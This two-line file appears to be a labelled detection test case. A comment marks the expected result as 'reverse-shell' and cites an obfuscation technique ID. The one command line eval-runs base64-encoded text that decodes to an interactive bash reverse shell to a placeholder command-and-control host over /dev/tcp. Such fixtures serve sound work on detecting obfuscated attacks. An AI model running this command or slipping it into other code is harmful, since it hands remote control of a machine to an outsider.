# expect: reverse-shell | source: T1027.010
eval "$(echo YmFzaCAtaSA+JiAvZGV2L3RjcC9jMi5leGFtcGxlLmludmFsaWQvNDQzIDA+JjE= | base64 -d)"
